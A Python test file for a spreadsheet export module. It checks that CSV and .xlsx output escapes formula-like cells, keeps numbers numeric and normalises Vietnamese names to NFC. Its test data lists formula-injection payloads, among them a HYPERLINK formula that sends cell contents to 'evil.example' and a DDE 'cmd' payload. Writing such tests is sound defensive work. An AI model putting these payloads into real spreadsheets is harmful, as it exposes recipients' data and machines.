"""Exports keep hostile text as text (CSV and .xlsx) and numbers as numbers; Vietnamese survives in NFC."""

from __future__ import annotations

import csv
import unicodedata
import zipfile
from pathlib import Path

import pytest

from tasks.exports import safe_cell, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    " \t@SUM(A1:A9)",
]
NAME_NFD = unicodedata.normalize("NFD", "Ủy ban nhân dân xã Trường Long Hòa")
HEADER = ["Mã", "Đơn vị", "Số ngày trễ", "Ghi chú"]


def rows() -> list[list[object]]:
    table: list[list[object]] = [[f"X{i:02d}", name, -3, ""] for i, name in enumerate(HOSTILE)]
    table.append(["TLH", NAME_NFD, 0, "Đã nộp đúng hạn"])
    table.append(["A-1", "Phòng Tài chính - Kế hoạch", 2, 1.5])
    return table


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_marks_formula_like_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, 0, 42, 1.5, -2.25, None, True])
def test_safe_cell_keeps_numbers(value: object) -> None:
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["Phòng Tài chính - Kế hoạch", "A-1", "ubnd@xa.gov.vn", "1+1", "'quoted"])
def test_safe_cell_keeps_ordinary_text(text: str) -> None:
    assert safe_cell(text) == text


def test_safe_cell_normalises_to_nfc() -> None:
    assert safe_cell(NAME_NFD) == unicodedata.normalize("NFC", NAME_NFD) != NAME_NFD


def test_csv_writes_hostile_cells_as_text(tmp_path: Path) -> None:
    f = write_csv(tmp_path / "t.csv", HEADER, rows())
    raw = f.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    with f.open(encoding="utf-8-sig", newline="") as fh:
        got = list(csv.reader(fh))
    assert got[0] == HEADER
    for row, text in zip(got[1:], HOSTILE, strict=False):
        assert row[1] == "'" + text
        assert row[2] == "-3"  # a number stays a number
    assert got[-2][1] == "Ủy ban nhân dân xã Trường Long Hòa" == unicodedata.normalize("NFC", got[-2][1])
    assert got[-1] == ["A-1", "Phòng Tài chính - Kế hoạch", "2", "1.5"]
    for row in got:
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "@")), cell
            assert not cell.startswith(("\t", "\r")), cell


def test_xlsx_has_no_formula_and_keeps_text_exact(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    f = write_xlsx(tmp_path / "t.xlsx", HEADER, rows(), sheet_title="Tình hình nộp")
    with zipfile.ZipFile(f) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    ws = load_workbook(f).active
    assert ws.title == "Tình hình nộp"
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    for r, text in enumerate(HOSTILE, start=2):
        assert ws.cell(row=r, column=2).value == text  # exact: no marker needed in a string cell
        assert ws.cell(row=r, column=2).data_type == "s"
        assert ws.cell(row=r, column=3).value == -3 and ws.cell(row=r, column=3).data_type == "n"
    last = len(HOSTILE) + 2
    assert ws.cell(row=last, column=2).value == "Ủy ban nhân dân xã Trường Long Hòa"
    assert ws.cell(row=last + 1, column=4).value == 1.5


def test_xlsx_header_bold_frozen_and_columns_sized(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    f = write_xlsx(tmp_path / "t.xlsx", HEADER, rows(), sheet_title="Bảng: tình hình [1]/2026?")
    ws = load_workbook(f).active
    assert ws.freeze_panes == "A2"
    assert all(ws.cell(row=1, column=c).font.b for c in range(1, len(HEADER) + 1))
    assert not ws.cell(row=2, column=1).font.b
    assert 6 <= ws.column_dimensions["A"].width < ws.column_dimensions["B"].width <= 60
    assert ws.title == "Bảng  tình hình  1  2026"  # Excel forbids []:*?/\ in sheet names
